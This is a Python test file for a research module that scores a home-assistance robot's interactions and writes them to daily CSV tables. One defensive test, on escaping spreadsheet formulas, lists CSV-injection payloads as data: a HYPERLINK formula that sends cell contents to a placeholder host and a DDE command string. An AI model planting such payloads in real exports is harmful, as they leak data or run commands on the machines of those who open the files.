"""cacas.records: what a success is, the user data points, daily.csv's metrics, CSV bytes
(paper, Section V-B; design.md's daily.csv contract). Small hand-built frames, exact numbers."""

import numpy as np
import pandas as pd
import pytest

from cacas.preferences import parse_participant
import io

from cacas.records import (DAILY_COLUMNS, ROBOT_INITIATED, USER_INITIATED, csv_bytes, daily_table,
                           feedback_points, is_recorded, is_success, preferred_action_contexts, success_rate,
                           whole_counts)

T1, T2 = ROBOT_INITIATED, USER_INITIATED


def frame(rows, activity="cough"):
    """Interactions with the columns the metrics read: participant, method, day, type,
    robot_action, response, user_action, and the activity (``activity`` on every row)."""
    return pd.DataFrame(rows, columns=["participant", "method", "day", "type", "robot_action", "response",
                                       "user_action"]).assign(activity=activity)


# P01 day 1 under CACAS; day 2 under a baseline's policy (nn) put in force; P02 day 1 under CACAS
STUDY = frame([
    ("P01", "cacas", 1, T1, "pain check", "accept", ""),    # success; 1 point
    ("P01", "cacas", 1, T1, "chitchat", "reject", ""),      # 1 point
    ("P01", "cacas", 1, T1, "set a timer", "others", ""),   # no response: 0 points
    ("P01", "cacas", 1, T1, "do nothing", "accept", ""),    # the robot did nothing: no success, 0 points
    ("P01", "cacas", 1, T2, "do nothing", "accept", "pain check"),  # asked for: 2 points, no success
    ("P01", "nn", 2, T1, "pain check", "accept", ""),       # success; 1 point
    ("P01", "nn", 2, T2, "pain check", "accept", "chitchat"),  # asked for something else: 2 points
    ("P02", "cacas", 1, T1, "chitchat", "accept", ""),      # success; 1 point
])


def test_a_success_is_a_robot_initiated_action_the_participant_accepted():
    assert is_success(STUDY).tolist() == [True, False, False, False, False, True, False, True]


def test_user_data_points_per_interaction():
    # answered robot action: 1; user-initiated: 2 (request accepted, the robot's action rejected);
    # no response or the robot doing nothing: 0
    assert feedback_points(STUDY).tolist() == [1, 1, 0, 0, 2, 1, 2, 1]


def test_an_interaction_is_recorded_only_when_the_participant_answered_or_asked():
    """Section V-B: "If the user does not respond, the interaction is not recorded"; the robot
    doing nothing with nothing asked gives no answer either."""
    assert is_recorded(STUDY).tolist() == [True, True, False, False, True, True, True, True]


def test_a_request_made_with_no_sound_activity_is_no_data_point():
    """IV-C.1: a request is recorded "if ... there is a sound activity": asked while doing nothing
    (activity "do nothing"), it is saved but gives no point, is not an interaction of the day and
    counts among the unanswered, for every method (UMA does not record it either)."""
    idle = frame([("P01", "cacas", 1, T2, "do nothing", "accept", "chitchat"),
                  ("P01", "cacas", 1, T2, "pain check", "accept", "chitchat")], activity="do nothing")
    assert feedback_points(idle).tolist() == [0, 0] and not is_recorded(idle).any()
    day = daily_table(pd.concat([STUDY.iloc[:2], idle]))
    assert day[["interactions", "user_initiated", "feedback", "unanswered"]].iloc[0].tolist() == [2, 0, 2, 2]
    assert day["success_rate"].iloc[0] == 1 / 2


def test_success_rate_is_of_the_recorded_interactions():
    assert success_rate(STUDY[STUDY["day"] == 1]) == 2 / 4   # P01: 1 of 3 recorded; P02: 1 of 1
    assert success_rate(STUDY.iloc[2:4]) != success_rate(STUDY.iloc[2:4])  # nothing recorded: NaN


def _rows(daily):
    """The table as plain tuples (NaN / NA as None) in DAILY_COLUMNS order."""
    return [tuple(None if pd.isna(x) else x for x in row) for row in daily.itertuples(index=False)]


def test_daily_table_counts_rates_and_one_feedback_stream_per_participant():
    daily = daily_table(STUDY)
    assert list(daily.columns) == DAILY_COLUMNS
    # participant, method, day, success_rate, preference_accuracy, cumulative_feedback,
    # interactions (recorded), successes, user_initiated, feedback, success_ceiling (none: no
    # preferences given), unanswered
    assert _rows(daily) == [
        ("P01", "cacas", 1, 1 / 3, None, 4, 3, 1, 1, 4, None, 2),  # 1 success of 3 recorded; points 1+1+0+0+2
        ("P01", "nn", 2, 1 / 2, None, 7, 2, 1, 1, 3, None, 0),     # cumulative goes on from day 1: 4 + 3
        ("P02", "cacas", 1, 1 / 1, None, 1, 1, 1, 0, 1, None, 0),  # P02's own total
    ]
    for col in ("cumulative_feedback", "interactions", "successes", "user_initiated", "feedback", "unanswered"):
        assert daily[col].dtype == "Int64", col


def test_accuracy_rows_without_interactions_carry_the_days_counts():
    """Fig. 4 scores methods adapted from the same data but not run in closed loop: their rows get
    the preference accuracy, no success rate, and the day's interaction and feedback counts."""
    accuracy = pd.DataFrame([("P01", "cacas", 1, 0.25), ("P01", "cacas", 2, 0.5), ("P01", "nn", 2, 0.75)],
                            columns=["participant", "method", "day", "preference_accuracy"])
    rows = _rows(daily_table(STUDY, accuracy))
    assert rows == [
        ("P01", "cacas", 1, 1 / 3, 0.25, 4, 3, 1, 1, 4, None, 2),
        ("P01", "cacas", 2, None, 0.5, 7, 2, None, 1, 3, None, 0),  # not in force on day 2: day 2's counts
        ("P01", "nn", 2, 0.5, 0.75, 7, 2, 1, 1, 3, None, 0),
        ("P02", "cacas", 1, 1.0, None, 1, 1, 1, 0, 1, None, 0),
    ]


def test_two_methods_on_one_day_share_the_participants_cumulative_feedback():
    both = pd.concat([STUDY, frame([("P01", "cacas", 2, T1, "chitchat", "reject", "")])], ignore_index=True)
    daily = daily_table(both).set_index(["participant", "method", "day"])
    assert daily.loc[("P01", "cacas", 2), "feedback"] == 1 and daily.loc[("P01", "nn", 2), "feedback"] == 3
    # day 2's points of both methods count once each in the participant's running total: 4 + 1 + 3
    assert daily.loc[("P01", "cacas", 2), "cumulative_feedback"] == 8
    assert daily.loc[("P01", "nn", 2), "cumulative_feedback"] == 8


def test_daily_table_of_no_interactions():
    empty = daily_table(STUDY.iloc[:0])
    assert list(empty.columns) == DAILY_COLUMNS and len(empty) == 0
    only_accuracy = daily_table(STUDY.iloc[:0], pd.DataFrame([("P01", "nn", 1, 0.5)], columns=[
        "participant", "method", "day", "preference_accuracy"]))
    # a day begun, nothing recorded: no counts, no feedback so far, no success rate
    assert _rows(only_accuracy) == [("P01", "nn", 1, None, 0.5, 0, 0, None, 0, 0, None, 0)]


def test_a_day_begun_with_nothing_recorded_yet_carries_the_feedback_so_far():
    """A human study's open day 3 before its first answer, scored for Fig. 4: its counts were left
    empty, so Fig. 3's mean cumulative feedback dropped the participant (data-analyst review)."""
    accuracy = pd.DataFrame([("P01", "nn", 3, 0.6), ("P02", "cacas", 2, 0.4)],
                            columns=["participant", "method", "day", "preference_accuracy"])
    rows = [r for r in _rows(daily_table(STUDY, accuracy)) if r[2] in (3,) or r[:3] == ("P02", "cacas", 2)]
    assert rows == [("P01", "nn", 3, None, 0.6, 7, 0, None, 0, 0, None, 0),  # 4 on day 1 + 3 on day 2
                    ("P02", "cacas", 2, None, 0.4, 1, 0, None, 0, 0, None, 0)]


def test_a_day_with_nothing_recorded_has_no_success_rate():
    quiet = daily_table(STUDY.iloc[2:4])   # an unanswered proposal, the robot quiet
    assert _rows(quiet) == [("P01", "cacas", 1, None, None, 0, 0, 0, 0, 0, None, 2)]


def contexts(rows):
    """Interactions with full contexts: participant, day, activity, scene, time_slot, robot_action,
    response (the robot idle, 20 min since the last activity, nothing before)."""
    return pd.DataFrame([{"participant": p, "method": "cacas", "day": d, "activity": a, "scene": sc,
                          "time_slot": slot, "interval": 20, "task": "do nothing", "previous_action": "do nothing",
                          "previous_response": "others", "type": T1, "robot_action": r, "response": resp,
                          "user_action": ""} for p, d, a, sc, slot, r, resp in rows])


def test_success_ceiling_is_the_share_of_contexts_whose_preference_names_an_action():
    """A robot that always chose the described preference succeeds at most where the preference
    names an action: not where the participant wants to be left alone, nor outside every
    preference. Like the success rate, of the recorded interactions."""
    person = parse_participant({"id": "P01", "preferences": [
        {"activity": ["cough"], "action": "pain check"},
        {"activity": ["watch TV"], "scene": ["living room"], "action": "do nothing"}]})
    rows = contexts([
        ("P01", 1, "cough", "bedroom", 3, "pain check", "accept"),          # an action: 1
        ("P01", 1, "watch TV", "living room", 10, "do nothing", "others"),  # left alone: 0
        ("P01", 1, "watch TV", "kitchen", 10, "chitchat", "reject"),        # no preference: 0
        ("P01", 1, "cough", "kitchen", 11, "chitchat", "reject"),           # an action: 1
        ("P01", 1, "watch TV", "living room", 11, "chitchat", "reject"),    # left alone: 0
        ("P01", 1, "cough", "kitchen", 11, "pain check", "others"),         # an action, but unanswered
        ("P01", 2, "cough", "bedroom", 3, "pain check", "accept"),
        ("P02", 1, "cough", "bedroom", 3, "pain check", "accept"),          # no described preferences
    ])
    table = {"P01": person.preferred_action_table()}
    shares = preferred_action_contexts(rows, table)
    assert shares[:7].tolist() == [1.0, 0.0, 0.0, 1.0, 0.0, 1.0, 1.0] and np.isnan(shares[7])
    accuracy = pd.DataFrame([("P01", "nn", 1, 0.5)], columns=["participant", "method", "day", "preference_accuracy"])
    daily = daily_table(rows, accuracy, table).set_index(["participant", "method", "day"])
    # recorded on day 1: rows 1, 3, 4, 5 (the quiet robot and the unanswered proposal are not)
    assert daily.loc[("P01", "cacas", 1), "success_ceiling"] == 0.5    # 2 of 4
    assert daily.loc[("P01", "cacas", 1), "success_rate"] == 0.25      # 1 of those 4 succeeded
    assert daily.loc[("P01", "cacas", 2), "success_ceiling"] == 1.0
    assert pd.isna(daily.loc[("P02", "cacas", 1), "success_ceiling"])  # no preferences: empty
    assert pd.isna(daily.loc[("P01", "nn", 1), "success_ceiling"])     # not in closed loop: empty
    assert daily_table(rows)["success_ceiling"].isna().all()            # no preferences given


def test_csv_bytes_are_fixed_format():
    df = pd.DataFrame({"name": ["a", "b"], "x": [1 / 3, np.nan], "n": [1, 2]})
    # no index, floats to 6 decimals, NaN empty, "\n" line ends: the same data give the same bytes
    assert csv_bytes(df) == b"name,x,n\na,0.333333,1\nb,,2\n"


def test_counts_stay_whole_numbers_after_a_round_trip_through_a_csv_file():
    # a Fig. 4 run's daily.csv: the baseline row has no successes, so pandas reads the column as floats
    daily = daily_table(STUDY, pd.DataFrame({"participant": ["P01"], "method": ["nn"], "day": [1],
                                            "preference_accuracy": [0.5]}))
    first = csv_bytes(daily)
    read_back = pd.read_csv(io.BytesIO(first))
    assert read_back["successes"].dtype == float
    assert csv_bytes(read_back) == first                     # not "1.000000"
    assert str(whole_counts(read_back)["successes"].dtype) == "Int64"


def test_counts_that_are_not_whole_are_left_as_they_are():
    df = pd.DataFrame({"successes": [1.5, np.nan], "other": [2.0, 3.0]})
    kept = whole_counts(df)
    assert kept["successes"].dtype == float and kept["other"].dtype == float
    assert csv_bytes(df) == b"successes,other\n1.500000,2.000000\n,3.000000\n"


def test_measured_hours_and_minutes_are_written_in_their_shortest_form():
    df = pd.DataFrame({"hour": [8.0, 7.5, np.nan], "interval_minutes": [20.0, 0.25, 1.0], "rate": [0.5, 1.0, 0.0]})
    assert csv_bytes(df) == b"hour,interval_minutes,rate\n8,20,0.500000\n7.5,0.25,1.000000\n,1,0.000000\n"


def test_text_that_would_start_a_spreadsheet_formula_is_escaped_and_read_back_exactly():
    """CSV injection (data steward's audit): a participant's notes '=HYPERLINK(...)' ran as a formula
    when an exported table was opened in a spreadsheet."""
    from cacas.records import escape_formula, read_csv

    texts = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\tTAB", "'quoted", "''twice", "plain words", "-", "- a list item", "", "café = good"]
    numbers = ["-3", "+1.5", "-2e3", "-.5"]
    df = pd.DataFrame({"notes": texts + numbers, "n": range(len(texts) + len(numbers))})
    data = csv_bytes(df)
    cells = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)["notes"].tolist()
    assert all(c == "" or c == "plain words" or c == "café = good" or c.startswith("'")
               for c in cells[:len(texts)])  # nothing a spreadsheet would run
    assert cells[len(texts):] == numbers  # numbers written as text stay numbers
    back = read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)["notes"].tolist()
    assert back == texts + numbers
    assert [escape_formula(x) for x in (3, None, 2.5)] == [3, None, 2.5]
    from cacas.records import unescape_formula
    assert unescape_formula("'twas fine") == "'twas fine"  # not written by escape_formula: left as it is
    assert unescape_formula("''twas fine") == "'twas fine" and unescape_formula("'=1+1") == "=1+1"


def test_codes_are_listed_as_a_researcher_reads_them():
    """Natural order (records.code_order): letter case ignored, numbers by value (sorted as text, "P10" came
    before "P2"), every separator before digits and letters (ignoring case put "P_1" before "PA" but after
    "P1", and "P-1" before "P1": "-" and "_" sit on either side of the digits), then the exact code."""
    from cacas.records import by_code

    assert by_code(["P10", "P2", "p1", "P1"]) == ["P1", "p1", "P2", "P10"]
    assert by_code(["PA", "P1", "P_1", "P-2", "P_3"]) == ["P_1", "P-2", "P_3", "P1", "PA"]
    assert by_code(["r02", "R01", "p01"]) == ["p01", "R01", "r02"]
    assert by_code(["P1", "p01", "P01", "P001"]) == ["P001", "P01", "p01", "P1"]  # one number: by the code then
    assert by_code(["S2a", "S2", "S10", "S2_b"]) == ["S2", "S2_b", "S2a", "S10"]
    codes = ["P10", "p2", "P_1", "PA", "pa", "P-3", "P01", "p01", "1", "x"]
    assert by_code(codes) == by_code(reversed(codes)) == by_code(sorted(codes))  # total: the same whatever came in


@pytest.mark.parametrize("word", ["NA", "None", "NULL", "null", "nan", "NaN", "N/A", "n/a"])
def test_a_code_or_words_that_pandas_takes_for_missing_are_read_as_written(word):
    """A participant coded NA (a valid code: letters) or a preference's words "None" were read as missing by
    pandas' default NA strings, so a run's or an export's daily.csv read back (Results, the Simulation lab)
    dropped that participant from every mean. CACAS writes a missing value as an empty cell; a number column
    keeps pandas' NA strings (R's write.csv writes NA there)."""
    from cacas.records import read_csv

    data = (f"participant,method,day,label,success_rate\n{word},cacas,1,{word},NA\nP02,cacas,1,,0.5\n,cacas,1,x,\n"
            .encode())
    df = read_csv(io.BytesIO(data))
    assert df["participant"].tolist()[:2] == [word, "P02"] and pd.isna(df["participant"].iloc[2])
    assert df["label"].iloc[0] == word and pd.isna(df["label"].iloc[1])  # an empty cell is missing, as written
    assert pd.api.types.is_float_dtype(df["success_rate"]) and df["success_rate"].isna().tolist() == [True, False, True]
    assert read_csv(io.StringIO(data.decode()))["participant"].iloc[0] == word  # a text stream too


def test_each_interaction_is_scored_on_the_preferences_of_its_moment_not_of_its_text():
    """A time an older version stored with an offset (kept by an import) is placed by its moment:
    12:30+02:00 is 10:30 UTC, before the version saved at 12:00 UTC, though its text sorts after."""
    helped = parse_participant({"id": "P01", "preferences": [{"activity": ["cough"], "action": "pain check"}]})
    alone = parse_participant({"id": "P01", "preferences": [{"activity": ["cough"], "action": "do nothing"}]})
    versions = {"P01": [("2026-11-27T10:00:00.000Z", helped.preferred_action_table()),
                        ("2026-11-27T12:00:00.000Z", alone.preferred_action_table())]}
    rows = contexts([("P01", 1, "cough", "bedroom", 3, "pain check", "accept")] * 4)
    rows["time"] = ["2026-11-27T12:30:00+02:00",   # 10:30 UTC: the first version's
                    "2026-11-27T11:59:59.999Z",    # the first version's
                    "2026-11-27T12:00:00.000Z",    # saved at that moment: the second's
                    "2026-11-27T09:00:00-05:00"]   # 14:00 UTC: the second's, though its text sorts first
    assert preferred_action_contexts(rows, versions).tolist() == [1.0, 1.0, 0.0, 0.0]
